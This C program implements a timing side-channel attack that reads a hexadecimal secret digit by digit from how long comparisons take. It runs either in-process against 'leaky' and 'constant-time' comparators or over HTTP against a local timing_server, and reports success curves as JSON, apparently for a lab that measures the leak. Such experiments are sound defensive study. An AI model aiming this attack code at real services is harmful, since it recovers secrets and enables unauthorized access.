/* Read a secret of hexadecimal digits, one after the other, by the time that its comparison takes:
 * the digit whose timings stand out is right, by their mean or by the least of them.
 *
 * The first attack knows the digits before the one it asks for (which who guessed right would,
 * too), so that each digit is a trial of its own: how many come out right with n timings of each
 * candidate? The second knows nothing but what it is answered, and doubles n until it is let in.
 * The last digit has no time of its own: the answer gives it away.
 * usage: timing leaky|constant-time SLOW_NS DELAY_NS SECRET TIMINGS   in this process
 *        timing PORT SECRET TIMINGS                                  of timing_server on PORT
 * prints one JSON object. */
#include "compared.h"
#include "secret.h"
#include <arpa/inet.h>
#include <netinet/tcp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define DIGITS "0123456789abcdef"
enum { CANDIDATES = 16, LEN_MAX = 64, CHECKPOINTS_MAX = 24 };
#define FILLER 'x' /* no digit: what follows the one that is asked for is never right */

/* Who answers. */
struct oracle {
    bool (*ask)(const struct oracle *o, const char *guess, double *ns);
    struct compared how;
    const char *secret;
    int fd;
};
static size_t timings; /* taken so far */

static bool ask_here(const struct oracle *o, const char *guess, double *ns)
{
    double start = now_ns();
    bool same = compared(&o->how, o->secret, guess, strlen(guess));
    *ns = now_ns() - start;
    return same;
}

static bool ask_there(const struct oracle *o, const char *guess, double *ns)
{
    char request[128 + LEN_MAX], reply[1024];
    ssize_t len = 0, n = snprintf(request, sizeof(request),
                                  "GET /guess/%s HTTP/1.1\r\nHost: x\r\n\r\n", guess);
    double start = now_ns();
    if (write(o->fd, request, (size_t)n) != n)
        exit(1);
    do {
        n = read(o->fd, reply + len, sizeof(reply) - (size_t)len);
        if (n <= 0)
            exit(1);
        len += n;
    } while (len < 3 ||
             (memcmp(reply + len - 3, "ok\n", 3) != 0 && memcmp(reply + len - 3, "no\n", 3) != 0));
    *ns = now_ns() - start;
    return memcmp(reply + len - 3, "ok\n", 3) == 0;
}

/* --- one digit ------------------------------------------------------------------------------- */

struct times {
    double sum[CANDIDATES], least[CANDIDATES];
};

static void shuffle(unsigned order[CANDIDATES])
{
    uint8_t chance[CANDIDATES];
    secret_random(chance, sizeof(chance));
    for (unsigned i = 0; i < CANDIDATES; i++)
        order[i] = i;
    for (unsigned i = CANDIDATES - 1; i > 0; i--) {
        unsigned j = chance[i] % (i + 1), kept = order[i];
        order[i] = order[j];
        order[j] = kept;
    }
}

/* Each candidate for guess[at] once, in an order of chance. */
static void time_round(const struct oracle *o, char *guess, size_t at, struct times *t)
{
    unsigned order[CANDIDATES];
    shuffle(order);
    for (unsigned i = 0; i < CANDIDATES; i++) {
        unsigned c = order[i];
        double ns;
        guess[at] = DIGITS[c];
        o->ask(o, guess, &ns);
        t->sum[c] += ns;
        if (t->least[c] == 0 || ns < t->least[c])
            t->least[c] = ns;
    }
    timings += CANDIDATES;
}

static char slowest(const double of[CANDIDATES])
{
    unsigned best = 0;
    for (unsigned c = 1; c < CANDIDATES; c++)
        if (of[c] > of[best])
            best = c;
    return DIGITS[best];
}

/* --- the two attacks ------------------------------------------------------------------------- */

struct right {
    unsigned by_mean, by_least;
};

/* After 1, 2, 4 ... `most` rounds: is the digit known? */
static void try_digit(const struct oracle *o, size_t at, size_t most, struct right *right)
{
    struct times t = {0};
    char guess[LEN_MAX + 1];
    memset(guess, FILLER, strlen(o->secret) + 1);
    guess[strlen(o->secret)] = '\0';
    memcpy(guess, o->secret, at);
    for (size_t n = 1; n <= most; n++) {
        time_round(o, guess, at, &t);
        if ((n & (n - 1)) == 0) {
            right->by_mean += slowest(t.sum) == o->secret[at];
            right->by_least += slowest(t.least) == o->secret[at];
            right++;
        }
    }
}

/* Does the attacker, who knows the length alone, get in? */
static bool break_in(const struct oracle *o, size_t len, size_t rounds)
{
    char guess[LEN_MAX + 1];
    double ns;
    memset(guess, FILLER, len);
    guess[len] = '\0';
    for (size_t at = 0; at + 1 < len; at++) {
        struct times t = {0};
        for (size_t n = 0; n < rounds; n++)
            time_round(o, guess, at, &t);
        guess[at] = slowest(t.least);
    }
    for (unsigned c = 0; c < CANDIDATES; c++) {
        guess[len - 1] = DIGITS[c];
        timings++;
        if (o->ask(o, guess, &ns))
            return true;
    }
    return false;
}

static void attack(const struct oracle *o, size_t most)
{
    struct right right[CHECKPOINTS_MAX] = {0};
    size_t len = strlen(o->secret), rounds = 1;
    for (size_t at = 0; at + 1 < len; at++)
        try_digit(o, at, most, right);
    printf("{\"digits\": %zu, \"curve\": [", len - 1);
    for (size_t n = 1, k = 0; n <= most; n *= 2, k++)
        printf("%s[%zu, %u, %u]", k ? ", " : "", n, right[k].by_mean, right[k].by_least);
    timings = 0;
    while (rounds < most && !break_in(o, len, rounds))
        rounds *= 2;
    printf("], \"broken_in\": %s, \"rounds\": %zu, \"timings\": %zu}\n",
           rounds < most ? "true" : "false", rounds, timings);
}

static int connected(const char *port)
{
    struct sockaddr_in to = {.sin_family = AF_INET,
                             .sin_port = htons((uint16_t)strtoul(port, NULL, 10)),
                             .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    int fd = socket(AF_INET, SOCK_STREAM, 0), on = 1;
    setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &on, sizeof(on));
    if (connect(fd, (struct sockaddr *)&to, sizeof(to)) == 0)
        return fd;
    perror("connect");
    exit(1);
}

int main(int argc, char **argv)
{
    struct oracle o = {.ask = argc == 6 ? ask_here : ask_there, .fd = -1};
    size_t most = argc > 1 ? strtoul(argv[argc - 1], NULL, 10) : 0;
    if ((argc != 4 && argc != 6) || (argc == 6 && !compared_by_name(argv[1], &o.how)) ||
        strlen(argv[argc - 2]) < 2 || strlen(argv[argc - 2]) > LEN_MAX || most == 0 ||
        most >= (size_t)1 << CHECKPOINTS_MAX) {
        fputs("usage: timing leaky|constant-time SLOW_NS DELAY_NS SECRET TIMINGS\n"
              "       timing PORT SECRET TIMINGS\n",
              stderr);
        return 2;
    }
    o.secret = argv[argc - 2];
    if (argc == 6) {
        o.how.slow_ns = strtoull(argv[2], NULL, 10);
        o.how.delay_ns = strtoull(argv[3], NULL, 10);
    } else {
        o.fd = connected(argv[1]);
    }
    attack(&o, most);
    return 0;
}
